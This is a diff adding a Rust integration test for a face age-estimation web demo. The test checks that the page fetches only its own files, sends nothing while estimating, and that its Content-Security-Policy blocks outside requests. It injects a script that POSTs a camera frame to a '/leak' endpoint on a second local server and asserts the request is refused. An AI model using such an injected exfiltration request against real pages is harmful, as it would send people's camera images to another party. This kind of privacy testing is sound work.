@@ -6,7 +6,9 @@
 //! - with a fake camera playing a public-domain portrait, it reaches a live estimate of one face
 //!   on WebGPU, and on the CPU backend when WebGPU is unavailable, and the two agree;
 //! - exported streams join the fusion; damaged ones are said, file by file, and left out;
-//! - a server that answers missing files with the page itself does not stop it.
+//! - a server that answers missing files with the page itself does not stop it;
+//! - it requests its own files and nothing else (the server's log and the browser's resource
+//!   timing), none once it estimates, and its Content-Security-Policy refuses any other.
 
 mod support;
 
@@ -272,6 +274,114 @@ fn an_exported_stream_is_picked_up_without_code_changes() {
             "the page should say that {file} {what}, and what to run: {said:#?}"
         );
     }
+}
+
+/// Every request the page makes is a GET of one of its own files, and none comes while it
+/// estimates: the server's log and the browser's resource timing agree. Its
+/// Content-Security-Policy refuses a request to another server even from a script run in the
+/// page (here, injected through WebDriver).
+#[test]
+fn the_page_requests_its_own_files_and_nothing_else() {
+    let dir = tempfile::tempdir().unwrap();
+    let clip = portrait_clip(dir.path());
+    let root = dir.path().join("page");
+    {
+        let _dist = dist_lock();
+        copy_tree(&built_page(), &root);
+    }
+    let html = std::fs::read_to_string(root.join("index.html")).unwrap();
+    assert!(
+        html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self';")
+            && !html.contains("unsafe-inline"),
+        "the built page has no policy limiting it to its own files"
+    );
+    let wait = page::Wait {
+        frames: 1,
+        ..page::Wait::default()
+    };
+    let session = page::live_session(root.clone(), &clip, "", &page::NO_WEBGPU, &wait);
+    assert!(
+        session.report["faces"]
+            .as_array()
+            .is_some_and(|f| !f.is_empty()),
+        "the page estimated no face: {:#}",
+        session.report["errors"]
+    );
+    let loading: Vec<page::serve::Logged> = session.log.try_iter().collect();
+    // Ten more frames, and a moment for anything sent after them.
+    let frames = |b: &Browser| {
+        b.run("return window.ageDemo.state.frames")
+            .unwrap()
+            .as_u64()
+            .unwrap_or(0)
+    };
+    let first = frames(&session.browser);
+    let started = Instant::now();
+    while frames(&session.browser) < first + 10 {
+        assert!(
+            started.elapsed() < Duration::from_secs(120),
+            "the camera stopped"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    std::thread::sleep(Duration::from_secs(1));
+    let later: Vec<String> = session
+        .log
+        .try_iter()
+        .map(|r| format!("{} {}", r.method, r.target))
+        .collect();
+    assert!(later.is_empty(), "requests while estimating: {later:?}");
+    assert!(loading.len() >= 5, "{loading:?}");
+    for request in &loading {
+        assert_eq!(request.method, "GET", "{request:?}");
+        // The stream index is asked for whether or not a stream was exported (a 404 then).
+        assert!(
+            page::serve::file_for(&root, &request.target).is_some_and(|f| f.is_file())
+                || request.target == "/models/streams/index.json",
+            "{} is not one of the page's files",
+            request.target
+        );
+    }
+    let origin = format!("http://{}/", session.address);
+    let fetched = session
+        .browser
+        .run("return performance.getEntriesByType('resource').map((e) => e.name)")
+        .unwrap();
+    let fetched: Vec<&str> = fetched
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(
+        fetched.iter().any(|u| u.ends_with("models/age-v1.onnx")),
+        "{fetched:?}"
+    );
+    for url in &fetched {
+        let target = url.strip_prefix(origin.trim_end_matches('/'));
+        assert!(
+            target.is_some_and(|t| loading.iter().any(|r| r.target == t)),
+            "the browser fetched {url}, which the page's server never served"
+        );
+    }
+
+    // Anything else is refused by the policy, before it leaves the browser.
+    let (other, other_log) = page::serve_folder(dir.path().to_path_buf());
+    let outcome = session
+        .browser
+        .run_async(&format!(
+            "const done = arguments[arguments.length - 1]; \
+             fetch('http://{other}/leak', {{ method: 'POST', body: 'a frame' }}) \
+               .then(() => done('sent'), (e) => done('refused: ' + e.message));"
+        ))
+        .unwrap();
+    assert!(
+        outcome.as_str().is_some_and(|o| o.starts_with("refused")),
+        "{outcome}"
+    );
+    std::thread::sleep(Duration::from_millis(500));
+    let leaked: Vec<page::serve::Logged> = other_log.try_iter().collect();
+    assert!(leaked.is_empty(), "another server got {leaked:?}");
 }
 
 /// A server that answers every missing file with the page itself (as `trunk serve` does) hands
